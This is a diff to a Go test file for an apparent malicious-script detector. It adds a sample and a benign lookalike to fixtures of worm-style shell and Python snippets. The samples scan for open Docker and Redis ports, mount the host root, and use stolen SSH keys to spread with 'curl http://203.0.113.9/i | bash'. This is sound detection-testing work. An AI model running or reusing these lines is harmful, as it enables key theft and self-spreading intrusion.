@@ -24,6 +24,7 @@ func samples() []indicatortest.Sample {
 		{Name: "python-docker", Path: "w.py", Kind: script, Content: "os.system('masscan -p2375 --rate 1000 ' + net)\nos.system('docker -H ' + host + ' run -d -v /:/host alpine chroot /host')\n", Want: trust.Strong},
 		{Name: "zgrab", Path: "w.sh", Kind: script, Content: "zgrab2 http --port=2375 -f ips.txt | jq -r .ip > open\nfor i in $(cat open); do docker -H $i:2375 run -v /:/host -d x/alpine; done\n", Want: trust.Strong},
 		{Name: "interface", Path: "w.sh", Kind: script, Content: "pnscan -r \"Docker\" 10.0.0.0/8 2375 > o\nwhile read h; do curl -s -X POST http://$h:2375/containers/create -d @c.json; done < o\n", Want: trust.Strong},
+		{Name: "python-keys", Path: "w.py", Kind: script, Content: "hosts = re.findall(r'\\d{1,3}', open('/root/.ssh/known_hosts').read())\nos.system('ssh -o StrictHostKeyChecking=no -i /root/.ssh/id_rsa root@' + '%s' % h + ' \"curl http://203.0.113.9/i | bash\"')\n", Want: trust.Strong},
 		{Name: "keys-everywhere", Path: "s.sh", Kind: script, Content: "KEYS=$(find /root /home -name 'id_rsa')\nfor h in $L; do ssh -o StrictHostKeyChecking=no -i $k root@$h 'curl http://203.0.113.9/i | bash'; done\n", Want: trust.Strong},
 		{Name: "redis", Path: "r.sh", Kind: script, Content: "masscan -p6379 --rate 10000 $net > l\nfor h in $(cat l); do redis-cli -h $h config set dir /var/spool/cron; done\n", Want: trust.Weak, IfRun: trust.Strong},
 		{Name: "at-start", Path: "config:command", Kind: config, Content: "sh -c \"masscan $N -p2375 --rate 9000 -oL o; docker -H tcp://$IP:2375 run -v /:/mnt alpine\"", Want: trust.Strong},
@@ -41,6 +42,7 @@ func twins() []indicatortest.Twin {
 		{Name: "ansible", Path: "hosts.yml", Kind: text, Content: "ansible_ssh_common_args: \"-o StrictHostKeyChecking=no\"\n"},
 		{Name: "ssh-manual", Path: "usr/share/man/man1/ssh.1", Kind: text, Content: "cat ~/.ssh/known_hosts | grep host; find / -name id_rsa; docker -H tcp://$ip run"},
 		{Name: "backup-keys", Path: "b.sh", Kind: script, Content: "tar czf keys.tgz ~/.ssh/id_rsa ~/.ssh/known_hosts\ncp authorized_keys /root/.ssh/\n"},
+		{Name: "sort-known-hosts", Path: "k.sh", Kind: script, Content: "cat known_hosts | sort -u > ~/.ssh/known_hosts\nfor h in $(cat hosts.txt); do ssh -o StrictHostKeyChecking=no admin@$h \"apt-get update\"; done\n"},
 		{Name: "cluster-loop", Path: "c.sh", Kind: script, Content: "for h in node1 node2; do ssh -o StrictHostKeyChecking=no root@$h \"uptime\"; done\n"},
 	}
 }
